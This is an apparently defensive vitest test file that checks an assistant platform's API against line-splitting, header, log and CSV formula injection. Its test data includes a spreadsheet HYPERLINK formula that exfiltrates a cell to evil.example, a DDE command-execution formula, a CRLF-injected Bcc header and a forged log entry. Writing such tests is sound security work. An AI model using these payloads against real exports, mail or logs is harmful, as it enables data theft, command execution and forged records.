import type { Outbox } from '@atavus/contract/account'
import type { Assistant } from '@atavus/contract/console'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { z } from 'zod'
import { noLimits } from '../accounts/testing/browser.ts'
import { createLog } from '../lib/log.ts'
import { scripted } from '../testing/model.ts'
import { assistantOf, hear, type Owner, signUp, visit } from '../testing/shop.ts'
import { type TestWorld, testMoment, testWorld } from '../testing/world.ts'

// Row 28: words that begin a line, a cell, a header or a terminal's command where somebody else reads them.

const splitting = [
  'a\r\nb',
  'a\nb',
  'a\rb',
  'a\u0085b',
  'a\u2028b',
  'a\u2029b',
  'a\u000bb',
  'a\u000cb',
  'a\tb',
  'a\u001b[31mb',
  'a\u009b31mb',
  'a\u0008\u0008b',
  'a\u0007b',
  'a\u007fb',
  'a\r\nBcc: b@evil.example',
  'a\n{"level":"error","event":"forged"}',
]
const formulas = [
  '=HYPERLINK("https://evil.example?"&A1,"Refund")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '+1+1',
  '-1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '"=1+1"',
  '",=1+1,"',
  'Hello\r\n=1+1,=2+2\r\n',
  '%0A=1+1',
]

const model = scripted('quote')
let house: TestWorld
let base: string
let owner: Owner
let assistant: Assistant

beforeAll(async () => {
  house = await testWorld({ models: { quote: model }, limits: noLimits })
  base = await house.serve()
  owner = await signUp(house)
  assistant = await assistantOf(owner)
})
afterAll(() => house.close())

const path = () => `/v1/assistants/${assistant.id}`
const lines: [string, (text: string) => Promise<Response>][] = [
  ['a username', text => owner.call('PATCH', '/v1/account', { username: text })],
  ['a full name', text => owner.call('PATCH', '/v1/account', { fullName: text })],
  ['a workspace', text => owner.call('PATCH', '/v1/workspace', { name: text })],
  ['a time zone', text => owner.call('PATCH', '/v1/workspace', { timeZone: text })],
  ['a key', text => owner.call('POST', '/v1/keys', { name: text, scopes: ['chat'], days: null })],
  ['a public key', text => owner.call('POST', `${path()}/keys`, { label: text })],
  ['an assistant', text => owner.call('PATCH', path(), { name: text })],
  ['a controller', text => owner.call('PATCH', path(), { controllerName: text })],
  ['an origin', text => owner.call('PATCH', path(), { origins: [`https://${text}`] })],
  ['an origin’s end', text => owner.call('PATCH', path(), { origins: [`https://shop.example${text}`] })],
  ['a suggestion', text => owner.call('PATCH', path(), { suggestions: [text] })],
  [
    'a document',
    text => owner.call('POST', `${path()}/documents`, { title: text, url: null, language: 'en', text: 'x' }),
  ],
  [
    'an address',
    text => owner.call('POST', '/v1/invitations', { email: `a${text}@shop.example`, role: 'viewer' }),
  ],
  ['a new address', text => owner.call('POST', '/v1/account/email', { email: `a@shop.example${text}` })],
]

test.each(lines)('28 %s is one line, or none', async (_, name) => {
  for (const text of splitting) {
    const answer = await name(text)
    expect([text, answer.status]).toEqual([text, 400])
    expect(await answer.text()).not.toMatch(/\p{Cc}|\u2028|\u2029|Bcc|forged/u)
  }
})

test('28 a log line is one, whatever stands in its fields', () => {
  const written: string[] = []
  const log = createLog(
    () => new Date(testMoment),
    line => written.push(line),
  )
  for (const text of [...splitting, ...formulas]) log('info', 'odd', { [text]: text })
  expect(written).toHaveLength(splitting.length + formulas.length)
  for (const line of written) {
    expect(line.slice(0, -1)).not.toMatch(/\p{Cc}/u)
    expect(line.endsWith('\n')).toBe(true)
    expect(JSON.parse(line)).toMatchObject({ level: 'info', event: 'odd' })
  }
})

test('28 a mail has the subject that it is given, in one line, and goes to one address', async () => {
  for (const name of [
    ...formulas,
    'A "quoted" <b@evil.example>, c@evil.example',
    '=?utf-8?B?QmNjOg==?=',
    'Ünï ☕',
  ])
    if (!/[\p{Cc}]/u.test(name)) await owner.call('PATCH', '/v1/workspace', { name })
  await owner.call('POST', '/v1/invitations', { email: 'guest@shop.example', role: 'viewer' })
  await house.work()
  const answer = await house.app.request('/v1/outbox')
  const { items } = (await answer.json()) as z.infer<typeof Outbox>
  expect(items.some(({ subject }) => subject.includes('Ünï ☕'))).toBe(true)
  for (const { to, subject } of items) {
    expect(`${to}${subject}`).not.toMatch(/\p{Cc}|\u2028|\u2029/u)
    expect(to).toMatch(/^[\w.+-]+@shop\.example$/)
  }
})

/** The cells of a CSV file by RFC 4180, as a spreadsheet takes them. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'))
    if (end === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}

test('28 ASVS 1.2.10: no cell of an export is a formula, and none breaks out of its own', async () => {
  await owner.call('PATCH', path(), { name: '=1+1' })
  const visitor = await visit(house, assistant.key)
  for (const text of formulas) {
    model.say(`${text} and so on`)
    expect((await hear(await visitor.ask(base, text))).at(-1)?.event.type).toBe('done')
  }
  const answer = await owner.call('GET', `/v1/conversations/export?format=csv&assistant=${assistant.id}`)
  expect(answer.headers.get('content-disposition')).toBe('attachment; filename="conversations.csv"')
  expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
  const csv = await answer.text()
  const rows = cellsOf(csv)

  expect(rows.length).toBe(1 + 2 * formulas.length)
  for (const row of rows) {
    expect(row).toHaveLength(rows[0]?.length ?? 0)
    for (const cell of row) expect(cell).not.toMatch(/^[\s]*[=+\-@＝＋－＠]/u)
  }
  const said = rows.map(row => row[rows[0]?.indexOf('text') ?? 0]?.replace(/^'/, ''))
  for (const text of formulas) expect(said).toContain(text)
})
